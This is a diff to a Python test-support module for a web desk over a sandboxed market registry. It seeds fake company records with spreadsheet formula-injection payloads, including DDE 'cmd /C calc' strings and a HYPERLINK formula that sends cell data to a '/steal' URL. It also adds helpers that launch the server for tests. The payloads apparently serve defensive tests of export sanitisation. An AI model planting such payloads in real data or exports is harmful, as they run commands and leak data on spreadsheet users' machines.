@@ -2,11 +2,19 @@
 
 from __future__ import annotations
 
+import os
+import signal
+import socket
+import subprocess
+import sys
 import threading
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
+from dataclasses import dataclass
+from pathlib import Path
 
+import httpx
 import uvicorn
 from fastapi import FastAPI
 
@@ -14,9 +22,45 @@ from robots.sandbox_civil import ElderlyCare
 from robots.sandbox_population import Household, Person
 from sandbox import World
 from settings import Settings
-from store import Store, make_engine
+from store import Field, Record, Store, make_engine
 
 PASSWORD = "Desk-Pass-2026"  # every test user's; a test that looks for leaks searches for it
+
+# Typed into a government system by the companies themselves; each would run in Excel or WPS.
+HOSTILE = [
+    '=HYPERLINK("http://127.0.0.1:9/steal?d="&A3,"点此查看")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+class Company(Record):
+    """A market entity as the market system lists it: its name and address typed by its owners."""
+
+    credit_code: str = Field(key=True, title="统一社会信用代码")
+    name: str = Field(title="企业名称")
+    address: str = Field(title="经营场所")
+    capital: float = Field(title="注册资本")
+    staff: int = Field(title="从业人数")
+
+
+def companies() -> list[dict[str, object]]:
+    rows: list[dict[str, object]] = [
+        {"credit_code": f"91330102MA{n:08d}", "name": text, "address": text, "capital": -1200.5, "staff": n}
+        for n, text in enumerate(HOSTILE)
+    ]
+    rows.append(
+        {
+            "credit_code": "91330102MA99999999",
+            "name": "东湖商行",
+            "address": "东湖路1号",
+            "capital": 50.0,
+            "staff": 3,
+        }
+    )
+    return rows
 
 
 def seed_snapshot(settings: Settings, world: World) -> Store:
@@ -41,7 +85,15 @@ def seed_snapshot(settings: Settings, world: World) -> Store:
 def served(app: FastAPI) -> Iterator[str]:
     """``app`` served by uvicorn on a free 127.0.0.1 port from a thread; yields its base URL."""
     server = uvicorn.Server(
-        uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning", access_log=False, lifespan="off")
+        uvicorn.Config(
+            app,
+            host="127.0.0.1",
+            port=0,
+            log_level="warning",
+            access_log=False,
+            lifespan="off",
+            proxy_headers=False,  # as `harvest serve` with no HARVEST_DESK_TRUSTED_PROXIES
+        )
     )
     thread = threading.Thread(target=server.run, name="desk", daemon=True)
     thread.start()
@@ -56,3 +108,62 @@ def served(app: FastAPI) -> Iterator[str]:
     finally:
         server.should_exit = True
         thread.join(10)
+
+
+def free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return probe.getsockname()[1]
+
+
+@dataclass(frozen=True)
+class Served:
+    """A `harvest serve` process: where it answers, and the file that holds all it printed."""
+
+    url: str
+    process: subprocess.Popen[bytes]
+    output: Path
+
+    def stop(self) -> str:
+        """SIGTERM, as an operator stops it; everything it printed (stdout and stderr)."""
+        if self.process.poll() is None:
+            self.process.send_signal(signal.SIGTERM)
+            self.process.wait(timeout=20)
+        return self.output.read_text(errors="replace")
+
+
+@contextmanager
+def harvest_serve(data_dir: Path, **env: str) -> Iterator[Served]:
+    """``harvest serve`` as an operator runs it, in its own process on a free 127.0.0.1 port, with
+    ``env`` (HARVEST_… settings) on top of the test's own; what it prints goes to a file, so a
+    long run never fills a pipe."""
+    port = free_port()
+    output = data_dir.parent / f"serve-{port}.out"
+    data_dir.mkdir(parents=True, exist_ok=True)
+    inherited = {k: v for k, v in os.environ.items() if k != "HARVEST_DATABASE_URL"}  # the data dir's own
+    environment = {**inherited, "HARVEST_DATA_DIR": str(data_dir), "COLUMNS": "200", **env}
+    with output.open("wb") as sink:
+        process = subprocess.Popen(
+            [sys.executable, "-m", "cli", "serve", "--port", str(port)],
+            stdout=sink,
+            stderr=subprocess.STDOUT,
+            env=environment,
+            cwd=Path(__file__).parent.parent,
+        )
+    served = Served(f"http://127.0.0.1:{port}", process, output)
+    try:
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                httpx.get(f"{served.url}/login", timeout=2)
+                break
+            except httpx.TransportError:
+                if process.poll() is not None or time.monotonic() > deadline:
+                    raise RuntimeError(
+                        f"the desk did not start: {output.read_text(errors='replace')}"
+                    ) from None
+                time.sleep(0.2)
+        yield served
+    finally:
+        process.kill()
+        process.wait(timeout=20)
